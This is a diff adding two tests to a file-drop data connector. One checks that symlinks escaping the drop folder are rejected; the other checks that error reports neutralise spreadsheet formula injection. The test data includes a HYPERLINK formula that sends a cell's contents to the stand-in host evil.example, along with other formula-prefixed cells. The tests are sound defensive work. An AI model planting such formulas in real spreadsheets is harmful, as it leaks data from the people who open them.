@@ -11,6 +11,7 @@ from pydantic import ValidationError
 
 from connectors.base import Page
 from connectors.cursors import cursor_order
+from connectors.dropreport import Problem, write_report
 from connectors.filedrop import LEDGER, FileDropConnector, FileDropSettings, Ledger
 from mapping.errors import PermanentError
 from tests.connectors.filedrop.files import COLUMNS, HEADER, report, write_csv, write_xlsx
@@ -191,3 +192,42 @@ def test_settings_name_only_mapped_keys_and_the_folder_must_exist(tmp_path: Path
     with pytest.raises(PermanentError, match="does not exist"):
         read(connector(tmp_path / "nowhere"))
     connector(tmp_path).check()
+
+
+def test_links_out_of_the_folder_are_never_followed_and_links_inside_are(tmp_path: Path) -> None:
+    drop, outside = tmp_path / "drop", tmp_path / "elsewhere"
+    drop.mkdir()
+    outside.mkdir()
+    secret = write_csv(outside / "payroll.csv", [HEADER, ["SECRET-1", "WH-A", 1, ""]])
+    (drop / "stock.csv").symlink_to(secret)
+    (drop / "hop.csv").symlink_to(Path("..") / "elsewhere" / "payroll.csv")
+    (drop / "archive").mkdir()
+    write_csv(drop / "archive" / "kept.csv", [HEADER, ["A-1", "WH-A", 2, ""]])
+    (drop / "today.csv").symlink_to(drop / "archive" / "kept.csv")
+    (drop / "folder.csv").mkdir()
+
+    pages = read(connector(drop))
+
+    assert [strip(r) for p in pages for r in p.records] == [{"sku": "A-1", "location": "WH-A", "qty": "2"}]
+    problems = {r[2]: r[3] for f in (drop / "failed").glob("*.errors.csv") for r in report(f)}
+    assert set(problems) == {"stock.csv", "hop.csv", "folder.csv"}
+    assert "out of the drop folder" in problems["stock.csv"]
+    assert "out of the drop folder" in problems["hop.csv"]
+    assert "a directory" in problems["folder.csv"]
+    assert secret.exists()
+    assert (drop / "stock.csv").is_symlink()
+
+
+def test_the_file_drop_report_never_holds_a_formula(tmp_path: Path) -> None:
+    hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
+    write_report(tmp_path / "r.csv", [Problem(-n, text, text, text) for n, text in enumerate(hostile)])
+    assert report(tmp_path / "r.csv") == [[str(-n), "'" + t, "'" + t, "'" + t] for n, t in enumerate(hostile)]
+
+    # as a distributor's file brings them: cells that are not numbers, in a numeric column
+    cells = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "-2+3", "@SUM(A1:A9)"]
+    write_csv(
+        tmp_path / "south.csv", [HEADER, *[[f"A-{n}", "WH-A", text, ""] for n, text in enumerate(cells)]]
+    )
+    read(connector(tmp_path))
+    (errors,) = (tmp_path / "done").glob("south.*.errors.csv")
+    assert [value for _row, _column, value, _problem in report(errors)] == ["'" + text for text in cells]
